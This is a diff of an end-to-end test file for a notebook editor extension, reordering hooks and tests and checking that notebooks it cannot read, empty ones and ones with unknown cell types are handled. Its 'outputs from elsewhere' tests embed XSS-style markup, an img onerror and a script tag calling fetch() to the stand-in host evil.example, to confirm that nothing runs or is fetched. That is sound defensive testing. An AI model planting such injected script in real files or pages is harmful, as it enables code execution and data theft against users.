@@ -1,4 +1,4 @@
-import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { afterEach, beforeAll, describe, expect, test } from 'vitest';
 import { readFile } from 'node:fs/promises';
 import path from 'node:path';
 import { useBed } from './bed/in-tests';
@@ -7,24 +7,33 @@ import { notebookText } from './bed/notebook-text';
 import { until } from './bed/until';
 import type { EditorWindow } from './bed/window';
 
-const bed = useBed();
-
 /** What the folder is to hold, by name. */
 const files: Record<string, string> = {};
 /** One window for all of them: each is looked at after the one before is closed. */
 let window: EditorWindow;
 
-beforeAll(async () => {
-  window = await bed().newWindow(files);
-  await window.load();
-});
-
-beforeEach(async () => {
-  // What a test leaves open, changed or not: where it failed, too.
+// What a test leaves open, changed or not: where it failed, too. It comes before the bed, which takes the picture of a
+// window that failed, for the last of these hooks is the first to run.
+afterEach(async () => {
   for (let left = await window.tabs.count(); left > 0; left = await window.tabs.count()) {
     await window.command('View: Revert and Close Editor');
     await until('an editor to be closed', async () => (await window.tabs.count()) < left);
   }
+});
+
+const bed = useBed();
+
+/** What a file from elsewhere would fetch from, and what of that was asked for. */
+const elsewhere = 'https://evil.example';
+const fetched: string[] = [];
+
+beforeAll(async () => {
+  window = await bed().newWindow(files);
+  window.page.context().on('request', (request) => {
+    if (request.url().startsWith(elsewhere)) fetched.push(request.url());
+  });
+  // As when it is double-clicked: nothing of the extension is there yet when the window meets this file.
+  await window.load('hostile.gaitnb');
 });
 
 /** Has a file in the folder, and gives what it holds. */
@@ -67,71 +76,7 @@ async function changeAndSave(notebook: Notebook, file: string, before: string): 
   expect(others).toEqual(cellsOf(before).slice(1));
 }
 
-describe('a file that is no notebook', () => {
-  const broken = {
-    'cut-off.gaitnb': { content: whole.slice(0, 200), says: 'The notebook is cut off: its end is missing.' },
-    'words.gaitnb': { content: 'Dear diary', says: 'The notebook is not JSON' },
-    'old.gaitnb': {
-      content: JSON.stringify({ metadata: {}, nbformat: 3, nbformat_minor: 0, worksheets: [] }),
-      says: 'The notebook is of nbformat 3; only nbformat 4 can be read.',
-    },
-    'new.gaitnb': {
-      content: JSON.stringify({ cells: [], metadata: {}, nbformat: 5, nbformat_minor: 0 }),
-      says: 'The notebook is of nbformat 5, which is newer than this version can read (4).',
-    },
-  };
-
-  for (const [name, { content }] of Object.entries(broken)) inFolder(name, content);
-
-  test('says why it does not open, and stays as it is', async () => {
-    await window.openNotebook('whole.gaitnb');
-    for (const [name, { content, says }] of Object.entries(broken)) {
-      await window.quickOpen(name);
-      await window.notification(`${name}: ${says}`);
-      await window.tab(name).waitFor();
-      await window.page.keyboard.press('Control+S');
-      expect(await window.isDirty()).toBe(false);
-      await window.screenshot(`broken ${name}`);
-      await window.closeEditor();
-      await window.tab(name).waitFor({ state: 'detached' });
-      expect(await contentOf(name)).toBe(content);
-    }
-  });
-});
-
-inFolder('empty.gaitnb', '');
-
-test('a file of zero bytes is a new notebook, and stays empty until something is saved in it', async () => {
-  await window.quickOpen('empty.gaitnb');
-  const notebook = new Notebook(window);
-  await notebook.toolbarButton('Run All').waitFor();
-  expect(await window.isDirty()).toBe(false);
-  expect(await contentOf('empty.gaitnb')).toBe('');
-  await window.command('Gait: Insert Cell: Load Video');
-  await notebook.replaceCell(0, '# begun');
-  await notebook.save();
-  expect(cellsOf(await contentOf('empty.gaitnb'))).toMatchObject([
-    { cell_type: 'code', source: ['# begun'] },
-  ]);
-});
-
-const unknown = inFolder(
-  'unknown.gaitnb',
-  withCells(
-    { cell_type: 'heading', id: 'old', level: 2, metadata: { a: 1 }, source: ['A heading of long ago'] },
-    { cell_type: 'quantum', id: 'new', metadata: {}, spin: { up: [1, 2] } },
-  ),
-);
-
-test('cells of types that nobody knows are shown, and saved as they were', async () => {
-  const notebook = await window.openNotebook('unknown.gaitnb');
-  expect(await notebook.text(1)).toBe('A heading of long ago');
-  expect(await notebook.isDirty()).toBe(false);
-  await changeAndSave(notebook, 'unknown.gaitnb', unknown);
-});
-
 describe('outputs from elsewhere', () => {
-  const elsewhere = 'https://evil.example';
   const sign = 'ranFromTheFile';
   const script = `globalThis.${sign} = true; fetch('${elsewhere}/script')`;
   const markup = `<img src="${elsewhere}/image.png" onerror="${script}"><script>${script}</script>`;
@@ -202,12 +147,8 @@ describe('outputs from elsewhere', () => {
     withCells(...outputs.map(([output], index) => ran(output, index))),
   );
 
-  test('run nothing and fetch nothing, whatever they hold, and are kept', async () => {
-    const fetched: string[] = [];
-    window.page.context().on('request', (request) => {
-      if (request.url().startsWith(elsewhere)) fetched.push(request.url());
-    });
-    const notebook = await window.openNotebook('hostile.gaitnb');
+  test('run nothing and fetch nothing, also as the first thing that a window shows, and are kept', async () => {
+    const notebook = new Notebook(window);
     for (const [index, [, says]] of outputs.entries()) {
       await notebook.cellAtTop(index + 1);
       const output = await notebook.untilOutput(index + 1);
@@ -247,10 +188,6 @@ describe('outputs from elsewhere', () => {
   inFolder('charts.gaitnb', withCells(...charts.map((output, index) => ran(output, index))));
 
   test('that hide an address in the looks of a chart are drawn, and fetch nothing', async () => {
-    const fetched: string[] = [];
-    window.page.context().on('request', (request) => {
-      if (request.url().startsWith(elsewhere)) fetched.push(request.url());
-    });
     const notebook = await window.openNotebook('charts.gaitnb');
     for (const index of charts.keys()) {
       await notebook.cellAtTop(index + 1);
@@ -280,4 +217,67 @@ describe('outputs from elsewhere', () => {
     expect(await notebook.isDirty()).toBe(false);
     await changeAndSave(notebook, 'large.gaitnb', large);
   });
+});
+
+describe('a file that is no notebook', () => {
+  const broken = {
+    'cut-off.gaitnb': { content: whole.slice(0, 200), says: 'The notebook is cut off: its end is missing.' },
+    'words.gaitnb': { content: 'Dear diary', says: 'The notebook is not JSON' },
+    'old.gaitnb': {
+      content: JSON.stringify({ metadata: {}, nbformat: 3, nbformat_minor: 0, worksheets: [] }),
+      says: 'The notebook is of nbformat 3; only nbformat 4 can be read.',
+    },
+    'new.gaitnb': {
+      content: JSON.stringify({ cells: [], metadata: {}, nbformat: 5, nbformat_minor: 0 }),
+      says: 'The notebook is of nbformat 5, which is newer than this version can read (4).',
+    },
+  };
+
+  for (const [name, { content }] of Object.entries(broken)) inFolder(name, content);
+
+  test('says why it does not open, and stays as it is', async () => {
+    await window.openNotebook('whole.gaitnb');
+    for (const [name, { content, says }] of Object.entries(broken)) {
+      await window.quickOpen(name);
+      await window.notification(`${name}: ${says}`);
+      await window.tab(name).waitFor();
+      await window.page.keyboard.press('Control+S');
+      expect(await window.isDirty()).toBe(false);
+      await window.screenshot(`broken ${name}`);
+      await window.closeEditor();
+      await window.tab(name).waitFor({ state: 'detached' });
+      expect(await contentOf(name)).toBe(content);
+    }
+  });
+});
+
+inFolder('empty.gaitnb', '');
+
+test('a file of zero bytes is a new notebook, and stays empty until something is saved in it', async () => {
+  await window.quickOpen('empty.gaitnb');
+  const notebook = new Notebook(window);
+  await notebook.toolbarButton('Run All').waitFor();
+  expect(await window.isDirty()).toBe(false);
+  expect(await contentOf('empty.gaitnb')).toBe('');
+  await window.command('Gait: Insert Cell: Load Video');
+  await notebook.replaceCell(0, '# begun');
+  await notebook.save();
+  expect(cellsOf(await contentOf('empty.gaitnb'))).toMatchObject([
+    { cell_type: 'code', source: ['# begun'] },
+  ]);
+});
+
+const unknown = inFolder(
+  'unknown.gaitnb',
+  withCells(
+    { cell_type: 'heading', id: 'old', level: 2, metadata: { a: 1 }, source: ['A heading of long ago'] },
+    { cell_type: 'quantum', id: 'new', metadata: {}, spin: { up: [1, 2] } },
+  ),
+);
+
+test('cells of types that nobody knows are shown, and saved as they were', async () => {
+  const notebook = await window.openNotebook('unknown.gaitnb');
+  expect(await notebook.text(1)).toBe('A heading of long ago');
+  expect(await notebook.isDirty()).toBe(false);
+  await changeAndSave(notebook, 'unknown.gaitnb', unknown);
 });
